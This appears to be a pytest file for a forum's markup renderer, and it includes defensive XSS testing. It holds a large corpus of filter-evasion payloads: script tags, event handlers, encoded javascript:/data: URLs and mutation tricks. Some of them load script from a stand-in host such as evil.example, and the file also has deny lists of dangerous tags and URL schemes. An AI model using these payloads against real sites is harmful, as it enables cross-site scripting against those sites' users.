"""What a writer types can never run in a reader's browser.

Unit tests of forum.markup.render, then a corpus of XSS payloads in the style of the OWASP
filter evasion cheat sheet, checked three ways: render() on its own, the body_html the reply
form stores, and the topic page that serves it.
"""
from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from markupsafe import escape
from sqlalchemy import select

from forum.board.models import Post
from forum.extensions import db
from forum.markup import ALLOWED_TAGS, LINK_REL, WRITER_TAGS, render
from forum.text import clean


def typed(payload: str) -> str:
    """What a form keeps of a payload: control characters go at input (forum/text.py)."""
    return clean(payload, multiline=True)

# --------------------------------------------------------------------------------------------
# The checker
# --------------------------------------------------------------------------------------------

DANGEROUS_TAGS = frozenset({
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "svg",
    "math", "img", "image", "form", "input", "button", "textarea", "select", "base", "link",
    "meta", "video", "audio", "source", "track", "details", "marquee", "template", "noscript",
    "xmp", "plaintext", "title", "isindex", "animate", "set", "use", "foreignobject",
})
# What a page's own markup around the posts never has either (it may have forms and buttons).
PAGE_FORBIDDEN_TAGS = frozenset({"script", "style", "iframe", "frame", "frameset", "object",
                                 "embed", "applet", "base", "link", "meta", "svg", "math"})
URL_ATTRIBUTES = frozenset({"href", "src", "cite", "action", "formaction", "xlink:href",
                            "data", "background", "poster", "srcset", "codebase", "lowsrc",
                            "dynsrc", "longdesc", "usemap", "manifest", "ping", "to", "from",
                            "values"})
BAD_SCHEMES = ("javascript:", "data:", "vbscript:", "livescript:", "mocha:")
SAFE_SCHEMES = ("http", "https", "mailto")
_SCHEME = re.compile(r"^([a-z][a-z0-9+.\-]*):")
# What browsers ignore inside a URL: C0 controls, space, DEL, and the invisible format
# characters people use to split "java\u200bscript:".
_IGNORED_IN_URL = re.compile(r"[\x00-\x20\x7f\u00ad\u200b-\u200f\u2028\u2029\u2060\ufeff]")


def normalise_url(value: str) -> str:
    """A URL as a browser sees it when choosing the scheme: no blanks, lower case.

    `value` comes from HTMLParser, which has already HTML-unescaped it once, exactly as a
    browser does; unescaping again would see danger in harmless text like "&amp;#106;".
    """
    return _IGNORED_IN_URL.sub("", value).lower()


class _Walker(HTMLParser):
    def __init__(self, only_allowed: bool) -> None:
        super().__init__(convert_charrefs=True)
        self.only_allowed = only_allowed
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        self._check(tag, attrs)

    def handle_startendtag(self, tag, attrs):
        self._check(tag, attrs)

    @property
    def forbidden(self) -> frozenset[str]:
        return DANGEROUS_TAGS if self.only_allowed else PAGE_FORBIDDEN_TAGS

    def handle_endtag(self, tag):
        if tag in self.forbidden or (self.only_allowed and tag not in ALLOWED_TAGS):
            self.problems.append(f"end tag </{tag}>")

    def handle_comment(self, data):
        if self.only_allowed:
            self.problems.append(f"comment <!--{data}-->")

    def handle_decl(self, decl):
        self.problems.append(f"declaration <!{decl}>")

    def unknown_decl(self, data):
        self.problems.append(f"declaration <![{data}]>")

    def handle_pi(self, data):
        self.problems.append(f"processing instruction <?{data}>")

    def _check(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in self.forbidden:
            self.problems.append(f"dangerous element <{tag}>")
        if self.only_allowed and tag not in ALLOWED_TAGS:
            self.problems.append(f"element <{tag}> is not on the allowlist")
        allowed = set(WRITER_TAGS.get(tag, ())) | ({"rel"} if tag == "a" else set())
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.problems.append(f"event handler {name}={value!r} on <{tag}>")
            if name in ("style", "srcdoc", "formaction") and self.only_allowed:
                self.problems.append(f"attribute {name}={value!r} on <{tag}>")
            if self.only_allowed and name not in allowed:
                self.problems.append(f"attribute {name!r} not allowed on <{tag}>")
            if name in URL_ATTRIBUTES or name.endswith(":href"):
                url = normalise_url(value)
                if url.startswith(BAD_SCHEMES):
                    self.problems.append(f"dangerous URL {name}={value!r} on <{tag}>")
                scheme = _SCHEME.match(url)
                if self.only_allowed and scheme and scheme.group(1) not in SAFE_SCHEMES:
                    self.problems.append(f"URL scheme not allowed: {name}={value!r} on <{tag}>")
        if self.only_allowed and tag == "a" and dict(attrs).get("rel") != LINK_REL:
            self.problems.append(f"link without rel={LINK_REL!r}: {attrs!r}")


def problems(html_text: str, only_allowed: bool = True) -> list[str]:
    walker = _Walker(only_allowed)
    walker.feed(html_text)
    walker.close()
    return walker.problems


def assert_harmless(html_text: str, only_allowed: bool = True) -> None:
    """No element, attribute or URL in this HTML can run script.

    With only_allowed (the default, for a post's own HTML) every element and attribute must
    also be on the writer's allowlist and every link must carry rel="nofollow ugc noopener";
    without it (a whole region of a page, which has its own links, forms and buttons) only
    script-bearing elements, event handlers and script URLs are looked for.
    """
    found = problems(html_text, only_allowed)
    assert not found, f"{found} in {html_text!r}"


def test_the_checker_itself_catches_what_it_should():
    for bad in ['<script>alert(1)</script>', '<img src=x>', '<a href="javascript:x">a</a>',
                '<a href=" JaVa&#x09;ScRiPt:x" rel="nofollow ugc noopener">a</a>',
                '<a href="&#106;avascript:x" rel="nofollow ugc noopener">a</a>',
                '<a href="java&Tab;script:x" rel="nofollow ugc noopener">a</a>',
                '<a href="\x01javascript:x" rel="nofollow ugc noopener">a</a>',
                '<b onclick="x">b</b>', '<p style="x">p</p>', '<div>d</div>',
                '<a href="http://x">no rel</a>', '<blockquote cite="data:x">q</blockquote>',
                '<!-- c -->', '<![CDATA[x]]>', '<q cite="vbscript:x">q</q>',
                '<a href="ftp://x" rel="nofollow ugc noopener">a</a>']:
        assert problems(bad), bad
    assert_harmless('<p><a href="https://example.gov/a?b=1&amp;c=2" title="t" '
                    'rel="nofollow ugc noopener">a</a> <abbr title="x">X</abbr></p>')
    assert_harmless('<p>javascript:alert(1) &lt;script&gt;</p>')
    # Escaped entities are text in the URL, not a scheme: a harmless relative link.
    assert_harmless('<a href="java&amp;Tab;script:x" rel="nofollow ugc noopener">a</a>')


# --------------------------------------------------------------------------------------------
# Unit tests of render()
# --------------------------------------------------------------------------------------------

def test_allowed_inline_tags_survive():
    assert render("<b>b</b> <i>i</i> <em>em</em> <strong>st</strong> <s>s</s> <code>c</code> "
                  "<cite>ci</cite>") == (
        "<p><b>b</b> <i>i</i> <em>em</em> <strong>st</strong> <s>s</s> <code>c</code> "
        "<cite>ci</cite></p>")


def test_links_keep_href_and_title_and_get_rel():
    assert render('<a href="https://example.gov/x" title="A page">x</a>') == (
        f'<p><a href="https://example.gov/x" title="A page" rel="{LINK_REL}">x</a></p>')


@pytest.mark.parametrize("href", ["http://example.gov/", "https://example.gov/a?b=1",
                                  "mailto:help@example.gov", "/t/1-welcome", "relative/page",
                                  "#post-3", "?page=2"])
def test_safe_urls_are_kept(href):
    out = render(f'<a href="{href}">x</a>')
    assert f'href="{escape(href)}"' in out
    assert_harmless(out)


def test_abbr_and_acronym_become_abbr_with_title():
    assert render('<abbr title="Freedom of Information">FOI</abbr>') == (
        '<p><abbr title="Freedom of Information">FOI</abbr></p>')
    assert render('<acronym title="Freedom of Information">FOI</acronym>') == (
        '<p><abbr title="Freedom of Information">FOI</abbr></p>')


def test_strike_becomes_s_and_markdown_strikethrough_works():
    assert render("<strike>old</strike>") == "<p><s>old</s></p>"
    assert render("~~old~~") == "<p><s>old</s></p>"


def test_blockquote_and_q_keep_a_safe_cite():
    assert render('<blockquote cite="https://example.gov/src">Said.</blockquote>') == (
        '<blockquote cite="https://example.gov/src">Said.</blockquote>')
    assert render('<q cite="https://example.gov/src">said</q>') == (
        '<p><q cite="https://example.gov/src">said</q></p>')


@pytest.mark.parametrize("tag", ["blockquote", "q"])
@pytest.mark.parametrize("url", ["javascript:alert(1)", "data:text/html,x", "vbscript:x"])
def test_dangerous_cite_is_removed(tag, url):
    out = render(f'<{tag} cite="{url}">said</{tag}>')
    assert "cite=" not in out and "said" in out
    assert_harmless(out)


def test_del_keeps_a_valid_datetime_only():
    assert render('<del datetime="2024-03-01T10:00:00Z">gone</del>') == (
        '<p><del datetime="2024-03-01T10:00:00Z">gone</del></p>')
    assert render('<del datetime="yesterday">gone</del>') == "<p><del>gone</del></p>"
    assert render('<del datetime="2024-13-45">gone</del>') == "<p><del>gone</del></p>"


def test_markdown_lists():
    assert render("- one\n- two") == "<ul>\n<li>one</li>\n<li>two</li>\n</ul>"
    assert render("1. one\n2. two") == "<ol>\n<li>one</li>\n<li>two</li>\n</ol>"


def test_markdown_headings_start_at_h3():
    assert render("# One\n\n## Two\n\n### Three\n\n#### Four\n\n###### Six") == (
        "<h3>One</h3>\n<h4>Two</h4>\n<h5>Three</h5>\n<h6>Four</h6>\n<h6>Six</h6>")
    assert "<h1" not in render("Title\n=====") and "<h3>Title</h3>" == render("Title\n=====")


def test_markdown_heading_levels_close_their_gaps():
    assert render("## Two\n\n#### Four") == "<h3>Two</h3>\n<h4>Four</h4>"


def test_markdown_emphasis_and_inline_code():
    assert render("**bold** *it* `x < y`") == (
        "<p><strong>bold</strong> <em>it</em> <code>x &lt; y</code></p>")


def test_markdown_code_block_shows_html_as_text():
    out = render("```\n<script>alert(1)</script>\n```")
    assert out == "<pre><code>&lt;script&gt;alert(1)&lt;/script&gt;\n</code></pre>"
    out = render("    <b onclick=x>indented</b>")
    assert out.startswith("<pre><code>&lt;b onclick=x&gt;")
    assert_harmless(out)


def test_line_breaks_are_kept():
    assert render("first line\nsecond line") == "<p>first line<br>\nsecond line</p>"
    assert render("para one\n\npara two") == "<p>para one</p>\n<p>para two</p>"


def test_every_link_gets_rel_including_markdown_autolinks_and_bare_urls():
    source = ("[md](https://example.gov/a) <https://example.gov/b> https://example.gov/c "
              "www.example.gov <a href='https://example.gov/d' rel='opener'>d</a> "
              "![pic](https://example.gov/e.png)")
    out = render(source)
    links = re.findall(r"<a\b[^>]*>", out)
    assert len(links) == 6, out
    for link in links:
        assert f'rel="{LINK_REL}"' in link, link
    assert "opener\"" not in out.replace(LINK_REL, "")
    assert_harmless(out)


def test_links_in_code_are_not_linkified():
    assert render("`https://example.gov`") == "<p><code>https://example.gov</code></p>"


@pytest.mark.parametrize("source", [
    "<script>alert(1)</script>", "<div>block</div>", "<span>x</span>", "<img src=x>",
    "<iframe src=//example.com></iframe>", "<table><tr><td>x</td></tr></table>",
    "<h1>big</h1>", "<video src=x></video>",
])
def test_disallowed_tags_are_shown_as_text(source):
    out = render(source)
    assert "&lt;" in out, out
    assert_harmless(out)


def test_disallowed_attributes_on_allowed_tags_are_dropped():
    assert render("<p style='color:red' class='x' id='y'>styled</p>") == "<p>styled</p>"
    assert render("<b title='t' onclick='x'>b</b>") == "<p><b>b</b></p>"


def test_disallowed_tags_keep_their_text_visible():
    out = render("before <marquee>moving</marquee> after")
    assert out == "<p>before &lt;marquee&gt;moving&lt;/marquee&gt; after</p>"


@pytest.mark.parametrize("url", [
    "javascript:alert(1)", "JavaScript:alert(1)", " javascript:alert(1)",
    "java&#x09;script:alert(1)", "java&#10;script:alert(1)", "&#106;avascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "DATA:text/html,x",
    "vbscript:msgbox(1)", "VBScript:msgbox(1)",
])
def test_dangerous_urls_are_removed_from_links(url):
    out = render(f'<a href="{url}">click</a>')
    assert "href" not in out and "click" in out, out
    assert "<a" not in out, "a link without an address should be plain words"
    assert_harmless(out)


@pytest.mark.parametrize("source", [
    "[click](javascript:alert(1))", "[click](JAVASCRIPT:alert(1))",
    "[click](data:text/html,x)", "[click](vbscript:x)", "<javascript:alert(1)>",
    "[click][ref]\n\n[ref]: javascript:alert(1)",
])
def test_dangerous_urls_in_markdown_never_become_links(source):
    out = render(source)
    assert "href" not in out, out
    assert_harmless(out)


def test_images_become_plain_links():
    out = render("![The office](https://example.gov/office.png)")
    assert out == (f'<p><a href="https://example.gov/office.png" rel="{LINK_REL}">'
                   "The office</a></p>")
    out = render("![](https://example.gov/office.png)")
    assert "<img" not in out and 'href="https://example.gov/office.png"' in out
    assert_harmless(out)


def test_dangerous_image_sources_never_become_links():
    for source in ["![x](javascript:alert(1))", "![x](data:image/svg+xml,<svg onload=x>)",
                   '![x"onerror="alert(1)](https://example.gov/a.png)']:
        out = render(source)
        assert "<img" not in out
        assert_harmless(out)


def test_nul_is_removed():
    assert render("a\x00b") == "<p>ab</p>"
    assert render("<scr\x00ipt>alert(1)</script>") == "&lt;script&gt;alert(1)&lt;/script&gt;"
    assert "\x00" not in render("\x00" * 10 + "text")


def test_html_comments_are_removed():
    out = render("before <!-- secret --> after")
    assert "secret" not in out and "<!--" not in out
    assert_harmless(out)


def test_empty_and_blank_input():
    assert render("") == ""
    assert render("   \n\n  ") == ""


# --------------------------------------------------------------------------------------------
# The XSS corpus
# --------------------------------------------------------------------------------------------

XSS_PAYLOADS: list[str] = [
    # Script tags, casings, spacing, encodings
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    '<SCRIPT SRC="http://evil.example/xss.js"></SCRIPT>',
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<script/xss src=//evil.example/x.js></script>",
    "<script\tsrc=//evil.example/x.js></script>",
    "<script\nsrc=//evil.example/x.js></script>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)//",
    "<script",
    "<script >alert(1)</script >",
    '<script type="text/javascript">alert(1)</script>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\x00<script>alert(1)</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</div></li></ol><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    # Event handlers on many tags
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    '<img """><script>alert(1)</script>">',
    "<img src=`x`onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script xlink:href=data:,alert(1)></script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">click</text></a></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    "<svg><style>@import'//evil.example'</style></svg>",
    "<body onload=alert(1)>",
    "<BODY ONLOAD=alert(1)>",
    '<body background="javascript:alert(1)">',
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<iframe onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<details/open/ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<video src=x onerror=alert(1)>",
    '<video poster="javascript:alert(1)">',
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<input type=image src=x onerror=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<marquee loop=1 width=0 onfinish=alert(1)>x</marquee>",
    '<object data="javascript:alert(1)"></object>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<embed src="javascript:alert(1)">',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<math><a xlink:href="javascript:alert(1)">click</a></math>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mtext></math>',
    '<math href="javascript:alert(1)">click</math>',
    "<style>@import 'http://evil.example/xss.css';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<link rel="stylesheet" href="javascript:alert(1)">',
    '<link rel=import href="data:text/html,<script>alert(1)</script>">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=data:text/html,<script>alert(1)</script>">',
    '<base href="javascript:alert(1)//">',
    '<base href="//evil.example/">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<form><button formaction="javascript:alert(1)">go</button></form>',
    '<button formaction=javascript:alert(1)>go</button>',
    '<isindex type=image src=1 onerror=alert(1)>',
    '<div style="background-image:url(javascript:alert(1))">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<frameset onload=alert(1)>',
    '<applet code="javascript:alert(1)"></applet>',
    # Allowed tags carrying dangerous attributes
    '<a href="#" onclick="alert(1)">x</a>',
    '<a href="#" onmouseover="alert(1)">x</a>',
    '<a onmouseover=alert(1)>x</a>',
    '<a href="http://example.gov" style="position:fixed;top:0;left:0;width:100%;height:100%">x'
    "</a>",
    '<b onmouseover=alert(1)>bold</b>',
    '<strong style="x:expression(alert(1))">x</strong>',
    '<abbr title="x" onfocus=alert(1) tabindex=0>x</abbr>',
    '<acronym title=x onclick=alert(1)>x</acronym>',
    '<strike onclick=alert(1)>x</strike>',
    '<code onclick=alert(1)>x</code>',
    '<em id="x" class="y" onclick=alert(1)>x</em>',
    '<del datetime="2020-01-01" onclick=alert(1)>x</del>',
    '<del datetime="javascript:alert(1)">x</del>',
    '<q cite="javascript:alert(1)">x</q>',
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
    '<blockquote cite="data:text/html,<script>alert(1)</script>">x</blockquote>',
    '<a href="x" title="x" rel="opener" target="_blank">x</a>',
    # javascript:/data:/vbscript: URLs in links, with encodings and splits
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JAVASCRIPT:alert(1)">x</a>',
    "<a href=javascript:alert(1)>x</a>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=`javascript:alert(1)`>x</a>",
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="\tjavascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java\rscript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="java&#x0A;script:alert(1)">x</a>',
    '<a href="java&#x0D;script:alert(1)">x</a>',
    '<a href="java&Tab;script:alert(1)">x</a>',
    '<a href="java&NewLine;script:alert(1)">x</a>',
    '<a href="&#14;javascript:alert(1)">x</a>',
    '<a href="&#x01;javascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
    '&#0000112&#0000116&#0000058alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="javascript&#58;alert(1)">x</a>',
    '<a href="javascript%3Aalert(1)">x</a>',
    '<a href="%6A%61%76%61%73%63%72%69%70%74%3Aalert(1)">x</a>',
    '<a href="jav&#x00;ascript:alert(1)">x</a>',
    '<a href="java\u200bscript:alert(1)">x</a>',
    '<a href="\ufeffjavascript:alert(1)">x</a>',
    '<a href="javascript://example.gov/%0Aalert(1)">x</a>',
    '<a href="javascript:void(0)" title="x">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="DATA:text/html,x">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="VbScRiPt:msgbox(1)">x</a>',
    '<a href="livescript:alert(1)">x</a>',
    '<a href="feed:javascript:alert(1)">x</a>',
    '<a href="jar:http://evil.example/x.jar!/">x</a>',
    '<a href="http://example.gov" href="javascript:alert(1)">x</a>',
    '<a href="javascript:alert(1)" href="http://example.gov">x</a>',
    '<a xlink:href="javascript:alert(1)">x</a>',
    '<a title=\'x" onmouseover="alert(1)\'>x</a>',
    # Attribute-breaking quotes and malformed tags
    '<a href="http://example.gov/"onmouseover="alert(1)">x</a>',
    '<a href="http://example.gov/\'onmouseover=\'alert(1)">x</a>',
    "<a title=\"\" onclick=alert(1) \"\">x</a>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'\"--></style></script><script>alert(1)</script>",
    '<a href="x>javascript:alert(1)</a>',
    "<a href='http://example.gov'<script>alert(1)</script>>x</a>",
    "<b <script>alert(1)//</script>>x</b>",
    "<img src=x onerror=alert(1) <b>",
    "<</p>img src=x onerror=alert(1)>",
    "<a <img src=x onerror=alert(1)>>x</a>",
    "<iframe<?php echo 1;?>src=javascript:alert(1)>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<% alert(1) %>",
    # Comments and CDATA
    "<!--<script>alert(1)</script>-->",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<!-- <a href=\"--><img src=x onerror=alert(1)>\"> -->",
    # Markdown links, images, autolinks, references
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](java%0ascript:alert(1))",
    "[click](  javascript:alert(1)  )",
    "[click](<javascript:alert(1)>)",
    "[click](javascript:alert(1) \"title\")",
    '[click](http://example.gov "x\\" onmouseover=\\"alert(1)")',
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "[<img src=x onerror=alert(1)>](http://example.gov)",
    "[click](http://example.gov\"onmouseover=\"alert(1))",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![x" onerror="alert(1)](http://example.gov/x.png)',
    '![x](http://example.gov/x.png"onerror="alert(1))',
    "![<script>alert(1)</script>](http://example.gov/x.png)",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "[click][xss]\n\n[xss]: javascript:alert(1)",
    "[click][xss]\n\n[xss]: <javascript:alert(1)> \"title\"",
    "![pic][xss]\n\n[xss]: javascript:alert(1)",
    "[xss]\n\n[xss]: data:text/html,<script>alert(1)</script>",
    "[a](javascript:alert(1))[b](http://example.gov)",
    "**<script>alert(1)</script>**",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "# <svg onload=alert(1)>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "<div>\n\n<script>alert(1)</script>\n\n</div>",
    "<a href=\"javascript:alert(1)\">\n\n**x**\n\n</a>",
    "javascript:alert(1)",
    "www.example.gov/<script>alert(1)</script>",
    "http://example.gov/\"onmouseover=\"alert(1)",
    "https://example.gov/?q=<img src=x onerror=alert(1)>",
    # Unicode escapes and look-alikes
    "<a href=\"\\u006Aavascript:alert(1)\">x</a>",
    "<a href=\"&#x2F;&#x2F;evil.example\">x</a>",
    "<img src=x onerror=\"\\u0061lert(1)\">",
    "<\\u0073cript>alert(1)<\\/script>",
    "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
    "<scr\u0131pt>alert(1)</scr\u0131pt>",
    "<a href=\"\u2028javascript:alert(1)\">x</a>",
    "<a href=\"javascript\uff1aalert(1)\">x</a>",
    "<img src=x one\u200brror=alert(1)>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]

assert len(XSS_PAYLOADS) == len(set(XSS_PAYLOADS)), "payloads must be distinct"
assert len(XSS_PAYLOADS) >= 120


def test_the_corpus_is_large_and_distinct():
    assert len(set(XSS_PAYLOADS)) >= 120


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_render_makes_payload_harmless(payload):
    assert_harmless(render(payload))


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_render_is_stable_on_its_own_output(payload):
    """Rendering stored HTML again (say, a quote of a post) stays harmless."""
    assert_harmless(render(render(payload)))


# --------------------------------------------------------------------------------------------
# Through the real reply form, the database and the topic page
# --------------------------------------------------------------------------------------------

BATCH = 20  # with the opening post, a batch fits on one page (POSTS_PER_PAGE = 25)
BATCHES = [XSS_PAYLOADS[i:i + BATCH] for i in range(0, len(XSS_PAYLOADS), BATCH)]
# A post's HTML never holds "</div>" (div is not allowed, so it would be escaped): the first
# one after the post-body opening tag closes it.
_POST_BODY = re.compile(r'id="post-(\d+)".*?<div class="post-body">(.*?)</div>', re.S)


def _preview_html(page: str) -> str:
    match = re.search(r'<section class="preview"[^>]*>.*?<div class="post-body">(.*?)</div>\s*'
                      r'<p class="hint">', page, re.S)
    assert match, "no preview section"
    return match.group(1)


@pytest.mark.parametrize("batch", range(len(BATCHES)),
                         ids=[f"payloads-{i * BATCH + 1}-{i * BATCH + len(b)}"
                              for i, b in enumerate(BATCHES)])
def test_payloads_posted_through_the_reply_form_are_harmless(batch, app, client, make, login):
    payloads = BATCHES[batch]
    author = make.user()
    topic = make.topic(author=author, title="Security test topic")
    login(author)
    failures: list[str] = []

    for payload in payloads:
        preview = client.post(f"/t/{topic.id}/reply", data={"body": payload,
                                                           "preview": "Preview"})
        if preview.status_code != 200:
            failures.append(f"preview of {payload!r}: status {preview.status_code}")
        else:
            shown = _preview_html(preview.text)
            found = problems(shown)
            if found:
                failures.append(f"preview of {payload!r}: {found}")
            kept = escape(typed(payload))
            if kept not in preview.text:
                failures.append(f"preview of {payload!r}: the typed text was not kept")
        posted = client.post(f"/t/{topic.id}/reply", data={"body": payload,
                                                          "submit": "Post reply"})
        if posted.status_code != 302:
            failures.append(f"reply {payload!r}: status {posted.status_code}")

    with app.app_context():
        posts = db.session.scalars(select(Post).where(Post.topic_id == topic.id)
                                   .order_by(Post.position)).all()
        stored = {post.id: (post.body_source, post.body_html) for post in posts[1:]}
    assert len(stored) == len(payloads), failures
    for (source, body_html), payload in zip(stored.values(), payloads):
        assert source == typed(payload).strip()
        found = problems(body_html)
        if found:
            failures.append(f"stored body_html of {payload!r}: {found} in {body_html!r}")

    response = client.get(f"/t/{topic.id}-{topic.slug}")
    assert response.status_code == 200
    page = response.text
    served = dict(_POST_BODY.findall(page))
    start = page.index('<ol class="posts">')
    end = page.index('<section class="reply"', start)
    region_problems = problems(page[start:end], only_allowed=False)
    if region_problems:
        failures.append(f"topic page posts region: {region_problems}")
    for (post_id, (source, body_html)), payload in zip(stored.items(), payloads):
        shown = served.get(str(post_id))
        if shown is None:
            failures.append(f"served page: post of {payload!r} not found intact")
            continue
        if shown != body_html:
            failures.append(f"served page changed the stored HTML of {payload!r}: {shown!r}")
        found = problems(shown)
        if found:
            failures.append(f"served post of {payload!r}: {found} in {shown!r}")

    assert not failures, "\n".join(failures)
